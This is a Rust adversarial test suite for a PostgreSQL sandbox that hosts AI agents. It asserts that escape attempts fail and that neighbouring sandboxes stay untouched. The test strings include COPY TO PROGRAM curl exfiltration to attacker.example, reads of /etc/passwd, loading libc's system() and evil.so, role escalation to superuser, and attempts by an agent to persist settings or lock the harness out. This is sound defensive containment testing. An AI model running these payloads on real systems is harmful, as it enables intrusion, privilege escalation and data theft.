//! The adversarial suite: each test is one attempt by an agent to reach past its
//! sandbox, run against a real sandbox, asserting that it failed and that the
//! neighbour sandbox and the golden are untouched. One file per class of
//! attack: SQL the server refuses (here), the router's front door (`router`),
//! the daemon's admin work on what the agent planted (`admin`), root's file
//! work on the sandbox's files (`files`), limits (`limits`), who may log in to
//! the sandbox's server (`logins`), read-only mode
//! (`readonly`), what leaks or outlives a tenant (`leaks`), what is shared
//! with the whole host, the daemon included (`host`), what the daemon
//! reports about a sandbox (`reports`), and what agent code sees of the host
//! (`view`), and requests that must answer whatever the agent shaped (`answers`).

mod admin;
mod answers;
mod files;
mod floods;
mod handoff;
mod host;
mod leaks;
mod limits;
mod logins;
mod readonly;
mod reports;
mod router;
mod view;

use serde_json::Value;

use crate::harness::{dsn, psql, split_password, sql, Daemon};
use crate::storage::golden_digest;

/// A daemon, a golden, the agent's sandbox and a neighbour.
pub struct Scene {
    pub d: Daemon,
    /// The agent's sandbox id.
    pub id: String,
    /// The agent's DSN through the router.
    pub agent: String,
    /// The same credential on the agent's private socket.
    pub agent_socket: String,
    /// The agent's password.
    pub password: String,
    pub neighbour: String,
    golden_before: String,
}

impl Scene {
    /// The shop golden, an owner-mode agent sandbox and a neighbour.
    pub fn new() -> Scene {
        Scene::with(&[], &[])
    }

    /// The same, with daemon flags and the agent's fork flags.
    pub fn with(daemon: &[&str], fork: &[&str]) -> Scene {
        let d = Daemon::start(daemon);
        d.shop("shop");
        let golden_before = golden_digest(&d.home.join("volume/goldens/shop/1"));
        let forked = d.fork("shop", fork);
        let agent = dsn(&forked);
        let agent_socket = forked["socket_dsn"].as_str().expect("socket_dsn").to_owned();
        let neighbour = dsn(&d.fork("shop", &[]));
        let (_, password) = split_password(&agent);
        let id = forked["id"].as_str().unwrap().to_owned();
        if forked["access"]["mode"] == "owner" {
            sql(&agent, "SELECT lo_from_bytea(4242, 'secret')");
        }
        Scene { d, id, agent, agent_socket, password, neighbour, golden_before }
    }

    /// Runs the attempt as the agent; it must fail with `expected` in PostgreSQL's message.
    pub fn refused(&self, attempt: &str, expected: &str) {
        let err = psql(&self.agent, attempt).expect_err(&format!("{attempt} should have been refused"));
        assert!(err.contains(expected), "{attempt}: expected {expected:?} in {err:?}");
        self.untouched();
    }

    /// The neighbour and the golden are as they were, and the agent is no superuser.
    pub fn untouched(&self) {
        assert_eq!(sql(&self.neighbour, "SELECT count(*) FROM orders"), "1000", "the neighbour changed");
        // The counting role reads past row security, and can do nothing else.
        let roles = sql(
            &self.neighbour,
            "SELECT string_agg(rolname, ',' ORDER BY rolname) FROM pg_roles
             WHERE rolsuper OR rolcreaterole OR rolcanlogin AND rolname = 'airlock_reader'
                OR rolbypassrls AND rolname <> 'airlock_reader'",
        );
        assert_eq!(roles, "airlock_admin", "the neighbour's roles changed");
        if let Ok(su) =
            psql(&self.agent, "SELECT rolsuper OR rolcreaterole FROM pg_roles WHERE rolname = current_user")
        {
            assert_eq!(su, "f", "the agent's role was raised");
        }
        assert_eq!(
            golden_digest(&self.d.home.join("volume/goldens/shop/1")),
            self.golden_before,
            "the golden changed"
        );
    }

    /// Calls one of the agent's tools on its sandbox (as the gateway would).
    pub fn tool(&self, tool: &str, args: Value) -> Value {
        let (status, body) =
            self.d.api("POST", &format!("/v1/sandboxes/{}/tools/{tool}", self.id), &args.to_string());
        let v: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{tool}: {status} {body}"));
        v
    }

    /// The router's `host:port`.
    pub fn router(&self) -> &str {
        &self.d.router
    }
}

macro_rules! refused {
    ($($name:ident: $sql:expr => $expected:expr;)*) => {$(
        #[test]
        fn $name() {
            Scene::new().refused($sql, $expected);
        }
    )*};
}

const DENIED: &str = "permission denied";

refused! {
    copy_to_program_curl: "COPY orders TO PROGRAM 'curl -d @- http://attacker.example/'" => "pg_execute_server_program";
    copy_from_program: "COPY orders FROM PROGRAM 'id'" => "pg_execute_server_program";
    copy_to_server_file: "COPY orders TO '/tmp/airlock-exfiltrated'" => "pg_write_server_files";
    copy_from_server_file: "COPY orders FROM '/etc/passwd'" => "pg_read_server_files";
    copy_query_to_program: "COPY (SELECT 1) TO PROGRAM 'sh -c id'" => "pg_execute_server_program";
    copy_program_inside_do_block: "DO $$ BEGIN EXECUTE 'COPY orders TO PROGRAM ''true'''; END $$" => "pg_execute_server_program";
    pg_read_file_passwd: "SELECT pg_read_file('/etc/passwd')" => DENIED;
    pg_read_file_golden: "SELECT pg_read_file('../../../goldens/shop/1/manifest.json')" => DENIED;
    pg_read_binary_file_control: "SELECT pg_read_binary_file('global/pg_control')" => DENIED;
    pg_ls_dir_data: "SELECT pg_ls_dir('.')" => DENIED;
    pg_ls_dir_neighbours: "SELECT pg_ls_dir('../..')" => DENIED;
    pg_stat_file_hba: "SELECT pg_stat_file('pg_hba.conf')" => DENIED;
    lo_import_server_file: "SELECT lo_import('/etc/passwd')" => "permission denied for function lo_import";
    lo_export_server_file: "SELECT lo_export(4242, '/tmp/airlock-lo')" => "permission denied for function lo_export";
    alter_system: "ALTER SYSTEM SET listen_addresses = '*'" => DENIED;
    reload_config: "SELECT pg_reload_conf()" => DENIED;
    hba_file_rules: "SELECT * FROM pg_hba_file_rules" => DENIED;
    create_extension_dblink: "CREATE EXTENSION dblink" => "permission denied to create extension";
    dblink_connect_does_not_exist: "SELECT dblink_connect('host=127.0.0.1 dbname=postgres')" => "does not exist";
    create_extension_postgres_fdw: "CREATE EXTENSION postgres_fdw" => "permission denied to create extension";
    create_extension_file_fdw: "CREATE EXTENSION file_fdw" => "permission denied to create extension";
    create_extension_adminpack: "CREATE EXTENSION adminpack" => "permission denied to create extension";
    internal_language_function: "CREATE FUNCTION f(cstring) RETURNS int LANGUAGE internal AS 'int4in'" => "permission denied for language internal";
    c_function_from_libc: "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c" => "permission denied for language c";
    load_library: "LOAD '/tmp/evil.so'" => "access to library \"/tmp/evil.so\" is not allowed";
    load_module_outside_plugins: "LOAD 'auto_explain'" => "access to library \"auto_explain\" is not allowed";
    set_role_admin: "SET ROLE airlock_admin" => DENIED;
    set_session_authorization_admin: "SET SESSION AUTHORIZATION airlock_admin" => DENIED;
    set_role_server_program: "SET ROLE pg_execute_server_program" => DENIED;
    grant_server_files_to_self: "GRANT pg_read_server_files TO airlock_agent" => "must have admin option";
    grant_server_program_to_self: "GRANT pg_execute_server_program TO airlock_agent" => "must have admin option";
    grant_admin_to_self: "GRANT airlock_admin TO airlock_agent" => "must be superuser";
    alter_self_superuser: "ALTER ROLE airlock_agent SUPERUSER" => "permission denied to change a role's password or attributes";
    alter_owner_superuser: "ALTER ROLE airlock_owner SUPERUSER" => "permission denied to change a role's password or attributes";
    alter_self_createrole: "ALTER ROLE airlock_agent CREATEROLE" => DENIED;
    alter_admin_password: "ALTER ROLE airlock_admin PASSWORD 'mine'" => "permission denied to change a role's password or attributes";
    create_role: "CREATE ROLE intruder LOGIN PASSWORD 'x'" => DENIED;
    create_database_for_another_role: "CREATE DATABASE other OWNER airlock_owner" => "permission denied to create a database with owner";
    drop_the_sandboxs_own_database: "DROP DATABASE app" => "permission denied to drop database";
    create_tablespace: "CREATE TABLESPACE escape LOCATION '/tmp'" => DENIED;
    create_event_trigger: "CREATE FUNCTION et() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION et()" => "Must be superuser to create an event trigger";
    create_subscription: "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p" => "must be superuser to create subscriptions";
    read_password_hashes: "SELECT rolpassword FROM pg_authid" => DENIED;
    update_catalog_superuser: "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'airlock_agent'" => DENIED;
    session_preload_libraries: "SET session_preload_libraries = 'evil'" => DENIED;
    log_statement_off: "SET log_statement = 'none'" => DENIED;
    // Nothing an agent sets outlives its session: the in-server guard.
    alter_own_password: "ALTER ROLE airlock_agent PASSWORD 'locked-out'" => "permission denied to change a role's password";
    alter_own_expiry: "ALTER ROLE CURRENT_USER VALID UNTIL '2000-01-01'" => "permission denied to change a role's password";
    alter_own_setting: "ALTER ROLE airlock_agent SET statement_timeout = 0" => "permission denied to change a role's session defaults";
    alter_own_setting_in_database: "ALTER ROLE airlock_agent IN DATABASE app SET search_path = evil" => "permission denied to change a role's session defaults";
    reset_own_settings: "ALTER ROLE airlock_agent RESET ALL" => "permission denied to change a role's session defaults";
    alter_database_setting: "ALTER DATABASE app SET search_path = evil, pg_catalog" => "permission denied to change the database's session defaults";
    alter_database_connections: "ALTER DATABASE app ALLOW_CONNECTIONS false" => "permission denied to change the database's options";
    alter_database_limit: "ALTER DATABASE app CONNECTION LIMIT 0" => "permission denied to change the database's options";
    rename_database: "ALTER DATABASE app RENAME TO gone" => "permission denied to change the database's name";
    give_database_away: "ALTER DATABASE app OWNER TO airlock_agent" => "permission denied to change the database's owner";
    rename_own_role: "ALTER ROLE airlock_agent RENAME TO someone" => "permission denied to change a role's name";
    // Names only a superuser may take: where the daemon keeps its own machinery.
    create_probe_schema: "CREATE SCHEMA pg_airlock_probe" => "unacceptable schema name";
    create_reader_schema: "CREATE SCHEMA pg_airlock" => "unacceptable schema name";
    // The admin's helpers are not the agent's to call or change.
    call_the_counter: "SELECT pg_airlock.count_rows('orders')" => "permission denied";
    replace_the_counter: "CREATE OR REPLACE FUNCTION pg_airlock.count_rows(regclass) RETURNS bigint LANGUAGE sql AS 'SELECT 0::bigint'" => "permission denied";
    become_the_reader: "SET ROLE airlock_reader" => DENIED;
}

#[test]
fn a_password_change_cannot_lock_the_harness_out() {
    let s = Scene::new();
    assert!(psql(&s.agent, "ALTER ROLE airlock_agent PASSWORD 'mine'").is_err());
    let with_mine = s.agent.replace(&s.password, "mine");
    assert!(psql(&with_mine, "SELECT 1").is_err(), "the agent's own password opened the sandbox");
    assert_eq!(sql(&s.agent, "SELECT 1"), "1");
    let run = s.tool("run_sql", serde_json::json!({"sql": "SELECT current_user"}));
    assert_eq!(run["result"]["rows"][0][0], "airlock_agent", "{run}");
    s.untouched();
}

#[test]
fn the_design_story_transcript() {
    let s = Scene::new();
    // The confident, destructive statement succeeds inside the sandbox and is harmless.
    assert_eq!(
        sql(&s.agent, "DELETE FROM orders WHERE status = 'pending' OR TRUE; SELECT count(*) FROM orders"),
        "0"
    );
    s.untouched();
    // Exfiltration through the server is refused; dblink does not exist.
    s.refused(
        "COPY orders TO PROGRAM 'curl -X POST --data-binary @- https://attacker.example'",
        "pg_execute_server_program",
    );
    s.refused("SELECT dblink_connect('dbname=app')", "function dblink_connect(unknown) does not exist");
}

#[test]
fn connecting_to_another_database_or_sandbox_with_a_guessed_name_fails() {
    let s = Scene::new();
    let id = |dsn: &str| dsn.split('/').nth(3).unwrap().split('?').next().unwrap().to_owned();
    let (agent_id, neighbour_id) = (id(&s.agent), id(&s.neighbour));
    // On the private socket: other databases of the same server are closed to the agent.
    for db in ["postgres", "template1", "template0"] {
        let url = s.agent_socket.replace("@/app?", &format!("@/{db}?"));
        assert!(psql(&url, "SELECT 1").is_err(), "the agent reached {db}");
    }
    // Through the router: a database name is a sandbox id or name, nothing else.
    for db in ["postgres", "template1", "app", "sb-aaaaaaaaaa"] {
        let err = psql(&s.agent.replace(&agent_id, db), "SELECT 1").unwrap_err();
        assert!(err.contains(&format!("sandbox \"{db}\" does not exist")), "{db}: {err}");
    }
    // The agent's own password does not open the neighbour, through the router or its socket.
    let err = psql(&s.agent.replace(&agent_id, &neighbour_id), "SELECT 1").unwrap_err();
    assert!(err.contains("password authentication failed"), "{err}");
    // Nor does the agent's own OS identity (its exec user's, which its code
    // runs as) with that password open the neighbour's socket: its directory
    // is closed to it, and were it open, the neighbour's server knows no such
    // user (the agent logs in by peer, from its own sandbox's users alone).
    let (_, pw) = crate::harness::split_password(&s.agent);
    let neighbour_socket = s.agent_socket.replace(&agent_id, &neighbour_id);
    let (neighbour_socket, _) = crate::harness::split_password(&neighbour_socket);
    let group_of = |id: &str| {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(s.d.home.join("volume/sandboxes").join(id).join("run")).unwrap().gid()
    };
    let (exec_user, neighbours_group) = (group_of(&agent_id), group_of(&neighbour_id));
    for (gid, refused) in [(exec_user, "Permission denied"), (neighbours_group, "authentication failed")] {
        let out = std::process::Command::new("setpriv")
            .args([format!("--reuid={exec_user}"), format!("--regid={gid}"), "--clear-groups".into()])
            .args(["psql", &neighbour_socket, "-XtAc", "SELECT 1"])
            .env("PGPASSWORD", &pw)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains(refused),
            "as the agent's exec user, group {gid}: {err}"
        );
    }
    // The admin role is not reachable through the router, with or without a password.
    let admin = s.agent.replace("airlock_agent:", "airlock_admin:");
    let err = psql(&admin, "SELECT 1").unwrap_err();
    assert!(err.contains("cannot connect through the router"), "{err}");
    s.untouched();
}
